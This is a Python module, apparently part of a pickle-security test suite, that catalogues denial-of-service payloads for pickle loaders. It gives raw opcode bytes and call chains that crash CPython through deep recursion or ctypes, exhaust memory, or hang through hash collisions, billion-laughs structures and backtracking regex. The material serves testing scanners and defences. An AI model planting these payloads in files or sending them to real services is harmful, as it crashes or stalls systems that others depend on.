"""Attacks that run nothing: they crash a reader, take its memory, or never come to an end."""

from __future__ import annotations

import struct
from typing import Final

from .assembly import Call, Name
from .by_structure import P5, raw
from .gadget import CRASH, LOAD, Gadget, call, does, method, rows

DEEP: Final = 30_000
"""Enough for the stack of 1 MB that attacks get; a main thread's 8 MB take some 200,000."""
HASHES: Final = (3, 14)
"""From here on, tuples keep their hash (CPython issue 131525), and deep ones raise `RecursionError`."""
BIG: Final = 1 << 33
_PRIME: Final = (1 << 61) - 1
DOUBLED: Final = b"K\x01\x85\x940" + b"".join(b"h%ch%c\x86\x940" % (n, n) for n in range(60))
"""Leaves a tuple of 2**60 values in memo entry 60."""
ONE_HASH: Final = b"".join(
    b"\x8a\x0c" + (_PRIME * n).to_bytes(12, "little", signed=True) + b"N" for n in range(1, 12_000)
)
PAIRS: Final = b"".join(
    b"(" + b"".join(b"J" + struct.pack("<i", -1 - (number >> bit & 1)) for bit in range(14)) + b"tN"
    for number in range(12_000)
)
"""Tuples of -1 and -2, which have one hash."""

CRASHES: Final = rows(
    "CPython: recursion in C without a limit",
    does("deep tuples as a key", raw(P5, b"})", b"\x85" * DEEP, b"K\x01s."), CRASH, below=HASHES),
    does("deep tuples in a set", raw(P5, b"\x8f()", b"\x85" * DEEP, b"\x90."), CRASH, below=HASHES),
    does(
        "deep tuples, hashed",
        raw(P5, Name("builtins:hash"), b")", b"\x85" * DEEP, b"\x85R."),
        CRASH,
        below=HASHES,
    ),
    does(
        "deep iterators",
        raw(
            P5,
            Name("builtins:next"),
            Name("builtins:enumerate"),
            b"\x94",
            b"h\x00" * (DEEP - 1),
            b"]",
            b"\x85R" * (DEEP),
            b"\x85R.",
        ),
        CRASH,
    ),
    does(
        "numpy.lib.stride_tricks.as_strided",
        method(
            "tolist", Call("numpy.lib.stride_tricks:as_strided", Call("numpy:zeros", 1), (1000,), (1 << 30,))
        ),
        CRASH,
        "numpy: memory that is not there",
    ),
    call("ctypes:memset", 8, 0, 8, fires=CRASH, known="picklescan's list"),
    call("ctypes:memmove", 8, 16, 8, fires=CRASH, known="picklescan's list"),
)

MEMORY: Final = rows(
    "bytes that ask for gigabytes",
    does(
        "a memo of 4 GB by LONG_BINPUT",
        raw(P5, b"Nr\xff\xff\xff\x1f."),
        LOAD,
        "CVE-2018-20406",
        below=(3, 15),
    ),
    does("a memo of 4 GB by PUT", raw(b"Np536870911\n."), LOAD, "CPython issue 115952", below=(3, 15)),
    does(
        "a bytearray of 8 GB",
        raw(P5, b"\x96", struct.pack("<Q", BIG), b"."),
        LOAD,
        "CPython issue 115952",
        below=(3, 15),
    ),
    call("builtins:bytearray", BIG, fires=LOAD),
    call("builtins:list", Call("builtins:range", BIG), fires=LOAD),
    does("builtins.list of itertools.repeat", Call("builtins:list", Call("itertools:repeat", 0)), LOAD),
    call("operator:mul", "x", BIG, fires=LOAD),
    call("operator:lshift", 1, BIG * 8, fires=LOAD),
    call("builtins:str.format", "{:>9999999999}", 1, fires=LOAD),
    call("builtins:str.ljust", "", BIG, fires=LOAD),
    call("numpy:ones", BIG, fires=LOAD),
    call("fractions:Fraction", "1e999999999", fires=LOAD),
    does(
        "a product",
        Call("builtins:list", Call("itertools:product", [0] * 100, [0] * 100, [0] * 100, [0] * 100)),
        LOAD,
    ),
)

TIME: Final = rows(
    "bytes that ask for years",
    does(
        "a key of 2**60 values",
        raw(P5, DOUBLED, b"}h\x3cK\x01s."),
        LOAD,
        "billion laughs",
        below=HASHES,
    ),
    does(
        "a key of 2**60 values in a set",
        raw(P5, DOUBLED, b"\x8f(h\x3c\x90."),
        LOAD,
        "billion laughs",
        below=HASHES,
    ),
    does("ints of one hash as keys", raw(P5, b"}(", ONE_HASH, b"u."), LOAD, "hash collisions"),
    does(
        "ints of one hash in a set",
        raw(P5, b"\x8f(", ONE_HASH.replace(b"N\x8a", b"\x8a"), b"0\x90."),
        LOAD,
        "hash collisions",
    ),
    does("tuples of one hash as keys", raw(P5, b"}(", PAIRS, b"u."), LOAD, "hash collisions"),
    call("builtins:pow", 9, 9**9, fires=LOAD),
    call("math:factorial", 10_000_000, fires=LOAD),
    call("re:match", "(a+)+$", "a" * 60 + "b", fires=LOAD, known="regular expressions that backtrack"),
    call("collections:deque", Call("itertools:count"), 0, fires=LOAD),
    call("builtins:sum", Call("itertools:repeat", 0), fires=LOAD),
    call("time:sleep", 1000, fires=LOAD),
    call("select:select", [], [], [], fires=LOAD),
    does("queue.Queue.get", method("get", Call("queue:Queue")), LOAD),
    does("threading.Event.wait", method("wait", Call("threading:Event")), LOAD),
    does("socket.socket.accept", method("accept", Call("socket:create_server", ("127.0.0.1", 0))), LOAD),
)

ALL: Final[list[Gadget]] = [*CRASHES, *MEMORY, *TIME]
